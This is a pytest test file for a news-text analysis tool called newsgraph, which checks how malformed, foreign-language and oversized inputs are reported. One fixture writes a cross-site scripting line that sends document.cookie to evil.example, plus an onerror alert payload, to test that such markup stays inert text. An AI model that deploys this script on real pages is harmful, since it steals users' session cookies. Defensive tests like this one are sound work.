"""Bad input is normal: each bad item gets a clear error or warning and the batch goes on."""

from __future__ import annotations

import json

import pytest
from typer.testing import CliRunner

import newsgraph
from newsgraph.cli import app
from newsgraph.ingest.read import read_sources
from newsgraph.model import Failure, Source

GOOD = "Mayor John Miller said on Monday that the bridge in Springfield would reopen.\n"


@pytest.fixture()
def batch(tmp_path):
    """A folder with one good file among bad ones."""
    (tmp_path / "a_empty.txt").write_bytes(b"")
    (tmp_path / "b_binary.txt").write_bytes(bytes(range(256)) * 40)
    (tmp_path / "c_latin1.txt").write_bytes(
        "Le président a dit à Zürich: «déjà vu». The café owner said prices rose.".encode(
            "latin-1"))
    (tmp_path / "d_german.txt").write_text(
        "Die Bundesregierung hat am Mittwoch in Berlin ein neues Gesetz beschlossen. "
        "Der Minister sagte, man werde die Folgen genau prüfen.", encoding="utf-8")
    (tmp_path / "e_good.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "f_huge.txt").write_text(GOOD * (5_000_000 // len(GOOD) + 1), encoding="utf-8")
    (tmp_path / "g_hostile.txt").write_text(
        '<script>document.location="http://evil.example/"+document.cookie</script>\n'
        + GOOD + '<img src=x onerror="alert(1)">\n', encoding="utf-8")
    (tmp_path / "h_lines.jsonl").write_text(
        '{"id": "kept-id", "text": "Officials in Lagos said 40 people were hurt."}\n'
        "{not json\n"
        '{"id": 7}\n'
        '["a list"]\n', encoding="utf-8")
    return tmp_path


def test_batch_goes_on_with_a_reason_for_every_bad_item(batch):
    results = {getattr(r, "origin", None) or r.id: r for r in
               _analyze_all(read_sources([batch]))}
    reasons = {origin.rsplit("/", 1)[-1]: r.reason for origin, r in results.items()
               if isinstance(r, Failure)}
    assert "empty" in reasons["a_empty.txt"]
    assert "binary" in reasons["b_binary.txt"]
    assert "too long" in reasons["f_huge.txt"]
    assert "invalid JSON" in reasons["h_lines.jsonl:2"]
    assert '"text"' in reasons["h_lines.jsonl:3"]
    assert "JSON object" in reasons["h_lines.jsonl:4"]
    articles = [r for r in results.values() if not isinstance(r, Failure)]
    by_id = {a.id: a for a in articles}
    assert "kept-id" in by_id
    latin = next(a for a in articles if "Zürich" in a.text)
    assert any("UTF-8" in w for w in latin.warnings)
    german = next(a for a in articles if "Bundesregierung" in a.text)
    assert german.language == "de" and german.entities == []
    assert any("not analysed" in w for w in german.warnings)
    good = next(a for a in articles if a.text.startswith("Mayor"))
    assert any(e.name == "John Miller" for e in good.entities)


def _analyze_all(sources):
    from newsgraph.pipeline import analyze_sources

    return list(analyze_sources(sources))


def test_hostile_markup_is_treated_as_text_and_never_becomes_an_entity(batch):
    article = newsgraph.analyze((batch / "g_hostile.txt").read_text(encoding="utf-8"))
    assert all("<" not in e.name and "script" not in e.name.lower() for e in article.entities)
    assert any(e.name == "John Miller" for e in article.entities)


def test_api_raises_a_clear_error_for_empty_text():
    with pytest.raises(newsgraph.AnalysisError, match="empty"):
        newsgraph.analyze("   \n")


def test_cli_reports_failures_and_still_outputs_the_good_articles(batch):
    result = CliRunner().invoke(app, ["analyze", str(batch), "--format", "jsonl"])
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    # latin-1, German, good, hostile (its markup removed) and the JSONL line; the hostile
    # file's sentence, also in two other files, is no longer lost as "repeated in the batch"
    assert len(lines) == 5
    (hostile,) = [line for line in lines if line["removed"]]
    assert hostile["text"].startswith("Mayor John Miller said")
    assert "not analysed" in result.stderr
    assert "binary" in result.stderr


def test_cli_exits_non_zero_when_nothing_could_be_analysed(tmp_path):
    empty = tmp_path / "empty.txt"
    empty.write_text("")
    result = CliRunner().invoke(app, ["analyze", str(empty)])
    assert result.exit_code == 1
    assert "empty" in result.stderr


def test_missing_path_is_reported(tmp_path):
    result = CliRunner().invoke(app, ["analyze", str(tmp_path / "nope.txt")])
    assert result.exit_code == 1
    assert "no such file" in result.stderr


def test_truncated_utf8_is_decoded_with_a_warning(tmp_path):
    path = tmp_path / "cut.txt"
    path.write_bytes("The minister said the café would close déjà".encode()[:-1])
    (article,) = [r for r in _analyze_all(read_sources([path]))]
    assert not isinstance(article, Failure)
    assert article.warnings


def test_near_duplicate_is_linked_to_the_earliest_copy_and_not_analysed_again():
    story = ("Mayor John Miller said on Monday that the bridge in Springfield would reopen "
             "after three months of repairs, and that traffic would return to normal by June. "
             "Engineers found cracks in two of the supporting pillars last winter.")
    copy = story + "\n\nThis story was updated with a comment from the council."
    # The canonical copy is the earliest published, whatever the input order.
    second, first = _analyze_all([Source(text=copy, origin="b", published="2024-05-02"),
                                  Source(text=story, origin="a", published="2024-05-01")])
    assert second.duplicate_of == first.id
    assert second.entities == [] and any("near-duplicate" in w for w in second.warnings)
    assert first.entities
    kept = _analyze_all_settings([Source(text=story, origin="a"), Source(text=copy, origin="b")])
    assert kept[1].duplicate_of is None and kept[1].entities


def _analyze_all_settings(sources):
    from newsgraph.pipeline import analyze_sources
    from newsgraph.settings import Settings

    return list(analyze_sources(sources, Settings(dedup=False)))


def test_no_clean_keeps_the_text_byte_for_byte(tmp_path):
    text = ("Skip to content\r\n\r\nMayor John Miller said on Monday that the bridge  would reopen."
            "  \r\n\r\nLog in with your account\r\n\t\n")
    path = tmp_path / "raw.txt"
    path.write_bytes(text.encode("utf-8"))
    result = CliRunner().invoke(app, ["analyze", str(path), "--no-clean"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["text"] == text
    cleaned = json.loads(CliRunner().invoke(app, ["analyze", str(path)]).stdout)
    assert "Log in" not in cleaned["text"] and cleaned["removed"]


def test_a_few_characters_are_not_an_article(tmp_path):
    """Issue 15: a 6-character `.md` file was stored as an article."""
    (tmp_path / "note.md").write_text("hello!", encoding="utf-8")
    (tmp_path / "title.txt").write_text("Council approves tram extension", encoding="utf-8")
    (tmp_path / "lines.jsonl").write_text('{"id": "a", "text": "ok then"}\n', encoding="utf-8")
    items = list(read_sources([tmp_path]))
    assert [type(item) for item in items] == [Failure, Failure, Failure]
    assert all("too short for an article" in item.reason for item in items)
    assert items[0].id == "a"  # the JSONL line keeps its id in the failure


def test_short_texts_in_scripts_without_spaces_are_articles(tmp_path):
    path = tmp_path / "zh.txt"
    path.write_text("北京举行会议，总理表示谈判失败了。这是一个重要的消息，各方都在关注。",
                    encoding="utf-8")
    (item,) = read_sources([path])
    assert isinstance(item, Source)


def test_files_no_reader_takes_are_failures_not_skipped(tmp_path):
    (tmp_path / "report.pdf").write_bytes(b"%PDF-1.4 The minister said the talks failed.")
    (tmp_path / "story.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / ".DS_Store").write_bytes(b"\x00\x01")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "notes.txt").write_text(GOOD, encoding="utf-8")
    items = list(read_sources([tmp_path]))
    assert [type(item) for item in items] == [Failure, Source]
    assert items[0].origin.endswith("report.pdf") and "unknown file type .pdf" in items[0].reason
    (given,) = read_sources([tmp_path / "report.pdf"])
    assert isinstance(given, Failure) and "unknown file type" in given.reason


def test_scale_inputs_fail_the_same_files(tmp_path):
    from newsgraph.scale.inputs import RecordFilter, expand_inputs, read_raw

    (tmp_path / "report.pdf").write_bytes(b"%PDF-1.4")
    (tmp_path / "story.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / ".hidden.txt").write_text(GOOD, encoding="utf-8")
    records = [record for file in expand_inputs([str(tmp_path)])
               for record in read_raw(file, RecordFilter())]
    local = list(read_sources([tmp_path]))
    assert [record.to_source().origin for record in records] == [item.origin for item in local]
    assert records[0].to_source().reason == local[0].reason


def test_ingest_lists_non_english_articles_at_the_end(tmp_path, batch):
    """Issue 15: non-English articles were stored without annotations and the run said
    only "0 failed"; the README promises a warning at the end of the run."""
    result = CliRunner().invoke(app, ["ingest", str(batch / "d_german.txt"),
                                      str(batch / "e_good.txt"), "--db", str(tmp_path / "s.db")])
    assert result.exit_code == 0, result.output
    assert "2 new" in result.stdout
    assert "warning(s) on kept articles" in result.stderr
    assert "d_german.txt: language 'de' is not analysed" in result.stderr


@pytest.mark.parametrize("given", ['["a", "b"]', '{"n": 1}', "true", '""', "NaN"])
def test_an_id_that_is_not_a_string_or_number_fails_its_line(tmp_path, given):
    """Issue 15: an `id` given as a list was silently replaced by a hash of the text."""
    path = tmp_path / "ids.jsonl"
    path.write_text(f'{{"id": {given}, "text": "{GOOD.strip()}"}}\n'
                    f'{{"id": 42, "text": "{GOOD.strip()}"}}\n', encoding="utf-8")
    bad, good = read_sources([path])
    assert isinstance(bad, Failure) and bad.origin == f"{path}:1"
    assert '"id" must be a non-empty string or a number' in bad.reason
    assert isinstance(good, Source) and good.id == "42"


def test_metadata_of_the_wrong_type_is_a_warning_and_a_lone_author_is_kept(tmp_path):
    path = tmp_path / "meta.jsonl"
    path.write_text(json.dumps({"text": GOOD, "published": 20240510, "authors": "Jane Roe"})
                    + "\n", encoding="utf-8")
    (source,) = read_sources([path])
    assert source.authors == ["Jane Roe"] and source.published is None
    assert source.warnings == ['field "published" left out: expected a string, got int']


def test_jsonl_with_a_byte_order_mark_keeps_its_first_line(tmp_path):
    path = tmp_path / "bom.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps({"id": "first", "text": GOOD}).encode()
                     + b"\n" + json.dumps({"id": "second", "text": GOOD}).encode() + b"\n")
    assert [item.id for item in read_sources([path])] == ["first", "second"]


def test_stdin_jsonl_with_a_byte_order_mark_is_read_as_jsonl():
    data = b"\xef\xbb\xbf" + json.dumps({"id": "s", "text": GOOD}).encode() + b"\n"
    result = CliRunner().invoke(app, ["analyze", "-", "--format", "jsonl"], input=data)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["id"] == "s"


def test_a_latin1_jsonl_line_is_decoded_with_a_warning_not_lost(tmp_path):
    path = tmp_path / "latin1.jsonl"
    line = json.dumps({"id": "l", "text": "Hélène Lefèvre said the talks in Genève failed."},
                      ensure_ascii=False)
    path.write_bytes(line.encode("latin-1") + b"\n")
    (source,) = read_sources([path])
    assert isinstance(source, Source)
    assert source.text == "Hélène Lefèvre said the talks in Genève failed."
    assert any("cp1252" in warning for warning in source.warnings)


def test_lone_surrogates_and_nul_do_not_end_the_run(tmp_path):
    """A JSON "\\ud800" crashed the whole run in the tokenizer (UnicodeEncodeError)."""
    path = tmp_path / "odd.jsonl"
    text = GOOD.strip().replace("bridge", "bridge \\ud800 \\u0000")
    path.write_text(f'{{"id": "odd", "text": "{text}"}}\n'
                    + json.dumps({"id": "plain", "text": GOOD}) + "\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["ingest", str(path), "--db", str(tmp_path / "s.db")])
    assert result.exit_code == 0, result.output
    assert "2 new" in result.stdout
    assert "odd.jsonl:1: 2 character(s) that cannot be stored" in result.stderr


def test_a_publish_date_that_cannot_be_read_keeps_the_article():
    (article,) = _analyze_all([Source(text=GOOD, origin="t", published="May 10, 2024")])
    assert not isinstance(article, Failure)
    assert article.published is None
    assert any("publish date 'May 10, 2024' not understood" in w for w in article.warnings)


def test_a_text_file_too_large_for_one_article_is_not_read_into_memory(tmp_path):
    from newsgraph.ingest.sources import MAX_TEXT_BYTES

    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:  # sparse: no disk space used
        handle.truncate(MAX_TEXT_BYTES + 1)
    (item,) = read_sources([path])
    assert isinstance(item, Failure) and "file too large for one article" in item.reason
